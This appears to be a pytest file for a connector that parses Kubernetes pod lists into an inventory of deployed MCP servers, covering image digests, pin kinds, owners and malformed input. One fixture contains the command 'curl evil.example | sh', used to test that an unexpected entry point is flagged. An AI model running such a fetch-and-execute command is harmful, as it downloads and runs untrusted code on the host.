import json
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.kubernetes_pods import build, parse_pods
from monitor.domain.deployment import Deployment, Inventory, PinKind
from monitor.domain.purl import Purl
from monitor.domain.release import Digest
from monitor.ports.errors import Malformed, NotFound

LISTED = frozenset({Purl("docker", "ghcr.io/acme", "notes"), Purl.npm("@acme/files")})
SHA, OTHER = "a" * 64, "b" * 64
NOTES = {"name": "notes", "image": "ghcr.io/acme/notes:3.1"}


def pod(*containers: Mapping[str, object], name: str = "notes-7d9f-x2x4z", **more: object) -> dict[str, object]:
    """A pod of a deployment as kubectl writes it; `images`: container name -> imageID."""
    images = more.pop("images", {})
    assert isinstance(images, dict)
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "notes-7d9f", "controller": True, "uid": "1"}
    metadata = {
        "name": name,
        "namespace": "tools",
        "uid": name,
        "creationTimestamp": "2026-11-20T12:00:00Z",
        "labels": {"app": "notes", "pod-template-hash": "7d9f"},
        "ownerReferences": [owner],
        **more.pop("metadata", {}),  # type: ignore[dict-item]  # a mapping, in these tests
    }
    statuses = [
        {"name": each["name"], "image": each.get("image"), "imageID": images.get(each["name"], ""), "ready": True}
        for each in containers
    ]
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": metadata,
        "spec": {"containers": list(containers), "nodeName": "n1", **more},
        "status": {"phase": "Running", "podIP": "10.0.0.7", "containerStatuses": statuses},
    }


def read(*pods: object, cluster: str = "") -> Inventory:
    document = {"apiVersion": "v1", "kind": "List", "items": list(pods), "metadata": {"resourceVersion": ""}}
    return parse_pods(json.dumps(document).encode(), "pods.json", LISTED, cluster=cluster)


def only(*pods: object) -> Deployment:
    inventory = read(*pods)
    assert inventory.problems == ()
    assert len(inventory.deployments) == 1
    return inventory.deployments[0]


def labels(inventory: Inventory) -> list[str]:
    return [f"{each.name}: {each.purl}" for each in inventory.deployments]


def test_an_image_of_the_registry_is_a_deployment_with_the_digest_that_runs() -> None:
    inventory = read(pod(dict(NOTES), images={"notes": f"ghcr.io/acme/notes@sha256:{SHA}"}), cluster="prod")

    assert inventory.deployments == (
        Deployment(
            "prod/tools/notes",
            "kubernetes",
            "deployment/notes",
            "notes",
            PinKind.TAG,
            Purl("docker", "ghcr.io/acme", "notes", "3.1"),
            installed_digest=Digest("sha256", SHA),
        ),
    )
    assert inventory.complete


def test_an_image_that_is_pinned_by_its_digest_is_pinned() -> None:
    deployment = only(pod({**NOTES, "image": f"ghcr.io/acme/notes@sha256:{SHA}"}))

    assert (deployment.kind, deployment.digest) == (PinKind.DIGEST, Digest("sha256", SHA))


@pytest.mark.parametrize("image_id", ["", f"sha256:{SHA}", f"docker://sha256:{SHA}", "@sha256:abc"])
def test_an_id_that_no_registry_knows_is_no_digest(image_id: str) -> None:
    assert only(pod(dict(NOTES), images={"notes": image_id})).installed_digest is None


def test_what_older_nodes_write_before_the_digest_is_read_over() -> None:
    deployment = only(pod(dict(NOTES), images={"notes": f"docker-pullable://ghcr.io/acme/notes@sha256:{SHA}"}))

    assert deployment.installed_digest == Digest("sha256", SHA)


@pytest.mark.parametrize(
    ("container", "purl", "kind"),
    [
        ({"command": ["npx"], "args": ["-y", "@acme/files@1.4.2"]}, "pkg:npm/%40acme/files@1.4.2", PinKind.EXACT),
        ({"args": ["npx", "-y", "@acme/files"]}, "pkg:npm/%40acme/files", PinKind.NONE),
        ({"command": ["sh", "-c", "npx -y @acme/files@1.4.2"]}, "pkg:npm/%40acme/files@1.4.2", PinKind.EXACT),
        ({"command": ["uvx", "mcp-server-git==1.0"]}, "pkg:pypi/mcp-server-git@1.0", PinKind.EXACT),
        ({"command": ["uvx", "$(SERVER)", "mcp-server-git"]}, "", PinKind.NONE),
        ({"command": ["node", "/app/node_modules/@acme/files/dist/index.js"]}, "pkg:npm/%40acme/files", PinKind.PATH),
    ],
)
def test_a_command_that_starts_a_server_is_one_in_any_image(
    container: dict[str, object], purl: str, kind: PinKind
) -> None:
    found = read(pod({"name": "main", "image": "node:22", **container})).deployments

    assert [(each.name, str(each.purl), each.kind) for each in found] == (
        [("main (inside)", purl, kind)] if purl else []
    )


def test_another_command_in_a_servers_image_is_not_that_server() -> None:
    deployment = only(pod({**NOTES, "command": ["/bin/sh", "-c", "curl evil.example | sh"]}))

    assert (deployment.kind, deployment.note) == (PinKind.UNKNOWN, "with another entry point")


def test_names_of_variables_that_redirect_are_kept_and_no_value_is() -> None:
    env = [{"name": "NODE_OPTIONS", "value": "--require s3cr3t"}, {"name": "TOKEN", "value": "s3cr3t"}]

    deployment = only(pod({**NOTES, "env": env, "args": ["--token", "s3cr3t"]}))

    assert deployment.redirects == ("NODE_OPTIONS",)
    assert "s3cr3t" not in repr(deployment)


def test_what_is_no_server_is_passed_over() -> None:
    inventory = read(pod({"name": "web", "image": "nginx:1"}), pod({"name": "db", "image": "postgres@sha256:" + SHA}))

    assert (inventory.deployments, inventory.problems) == ((), ())


@pytest.mark.parametrize(
    "metadata",
    [
        {"labels": {"app.kubernetes.io/component": "mcp-server"}},
        {"labels": {"mcp.acme.example/tier": "1"}},
        {"annotations": {"mcp.acme.example/owner": "platform"}},
    ],
)
def test_a_pod_that_is_labelled_as_a_server_counts_with_what_it_runs(metadata: dict[str, object]) -> None:
    main, first = {"name": "main", "image": "acme/tool:1"}, {"name": "init", "image": "busybox:1"}

    assert labels(read(pod(main, metadata=metadata, initContainers=[first]))) == ["main: pkg:docker/acme/tool@1"]


def test_the_label_of_a_pod_makes_no_server_of_what_stands_beside_one() -> None:
    metadata = {"labels": {"app": "mcp"}}

    found = read(pod(dict(NOTES), {"name": "proxy", "image": "envoy:1"}, metadata=metadata))

    assert labels(found) == ["notes: pkg:docker/ghcr.io/acme/notes@3.1"]


def test_what_only_an_annotations_value_says_is_no_label() -> None:
    metadata = {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": '{"x":"mcp"}'}}

    assert read(pod({"name": "web", "image": "nginx:1"}, metadata=metadata)).deployments == ()


def test_a_server_that_prepares_a_pod_is_one() -> None:
    assert labels(read(pod({"name": "web", "image": "nginx:1"}, initContainers=[dict(NOTES)]))) == [
        "notes: pkg:docker/ghcr.io/acme/notes@3.1"
    ]


@pytest.mark.parametrize(
    ("metadata", "host", "location"),
    [
        ({}, "tools/notes", "deployment/notes"),
        ({"labels": {}}, "tools/notes-7d9f", "replicaset/notes-7d9f"),
        ({"ownerReferences": []}, "tools/notes-7d9f-x2x4z", "pod/notes-7d9f-x2x4z"),
        ({"ownerReferences": [{"kind": "Node", "name": "n1"}]}, "tools/notes-7d9f-x2x4z", "pod/notes-7d9f-x2x4z"),
        ({"ownerReferences": [{"kind": "StatefulSet", "name": "notes"}]}, "tools/notes", "statefulset/notes"),
        ({"ownerReferences": [{"kind": "Job", "name": "notes-29384750"}]}, "tools/notes", "cronjob/notes"),
        ({"ownerReferences": [{"kind": "Job", "name": "notes"}]}, "tools/notes", "job/notes"),
    ],
)
def test_the_place_is_what_outlives_the_pod(metadata: dict[str, object], host: str, location: str) -> None:
    deployment = only(pod(dict(NOTES), metadata=metadata))

    assert (deployment.host, deployment.location) == (host, location)


def test_replicas_and_a_restart_are_one_place() -> None:
    images = {"notes": f"ghcr.io/acme/notes@sha256:{SHA}"}
    before = read(*(pod(dict(NOTES), name=f"notes-7d9f-{at}", images=images) for at in range(3)))

    after = read(pod(dict(NOTES), name="notes-7d9f-later", images=images))

    assert before.deployments == after.deployments


def test_replicas_that_differ_are_two_places_whatever_their_order() -> None:
    pods = [
        pod(dict(NOTES), name=f"notes-{sha[0]}", images={"notes": f"ghcr.io/acme/notes@sha256:{sha}"})
        for sha in (SHA, OTHER)
    ]

    one, other = read(*pods), read(*reversed(pods))

    assert one.deployments == other.deployments
    assert [each.location for each in one.deployments] == ["deployment/notes", "deployment/notes #2"]


def test_a_pod_that_is_over_is_switched_off() -> None:
    over = pod(dict(NOTES))
    over["status"] = {"phase": "Succeeded"}

    assert only(over).disabled


@pytest.mark.parametrize(
    "bad",
    [
        5,
        {},
        {"metadata": {"name": "x"}},
        {"metadata": {"name": "x"}, "spec": {"containers": [{"image": "mcp/x:1"}]}},
        {"metadata": {"name": "x"}, "spec": {"containers": [{"name": "x", "image": 5}]}},
        {"metadata": {"name": "x\0mcp"}, "spec": {"containers": [{"name": "x", "image": "mcp/x:1"}]}},
    ],
)
def test_a_bad_pod_costs_only_itself(bad: object) -> None:
    inventory = read(pod(dict(NOTES)), bad, pod(dict(NOTES), metadata={"namespace": "other"}))

    assert [each.host for each in inventory.deployments] == ["tools/notes", "other/notes"]
    assert len(inventory.problems) == 1


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "kubectl"),
        (b"{", "kubectl"),
        (b"[]", "Expected `object`"),
        (b'{"kind":"Pod"}', "missing required field `items`"),
        (b'{"kind":"List","items":[]}', "no pod in it"),
        (b'{"kind":"Status","items":[1]}', "no pod in it"),
        (b'{"x":' * 10_000, "recursion"),
    ],
)
def test_what_is_no_list_of_pods_is_refused_as_a_whole(data: bytes, reason: str) -> None:
    with pytest.raises(Malformed, match=reason):
        parse_pods(data, "pods.json", LISTED)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.sampled_from(["mcp/x:1", "npx", "-y", "x-mcp", "\0", ""]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["metadata", "spec", "status", "name", "containers", "image", "command", "labels"]), inner
        )
    ),
    max_leaves=15,
)


@given(st.lists(JSON, min_size=1, max_size=4))
def test_no_pods_make_the_reading_fail_in_another_way(pods: list[object]) -> None:
    inventory = read(pod(dict(NOTES)), *pods)

    assert inventory.deployments[0].host == "tools/notes"


@given(st.binary(max_size=100))
def test_no_bytes_make_the_reading_fail_in_another_way(data: bytes) -> None:
    with pytest.raises(Malformed):
        parse_pods(data, "pods.json", LISTED)


async def test_the_list_is_read_anew_at_each_call_and_is_as_old_as_its_file(tmp_path: Path) -> None:
    path = tmp_path / "pods.json"
    path.write_text(json.dumps({"kind": "List", "items": [pod(dict(NOTES))]}), "utf-8")
    source = build(path, cluster="prod", listed=lambda: LISTED)

    inventory = await source.inventory()

    assert (source.name, inventory.deployments[0].host) == (f"kubernetes {path}", "prod/tools/notes")
    assert inventory.collected_at == datetime.fromtimestamp(path.stat().st_mtime, UTC)


async def test_a_missing_list_is_named(tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="no such file"):
        await build(tmp_path / "pods.json", listed=lambda: LISTED).inventory()
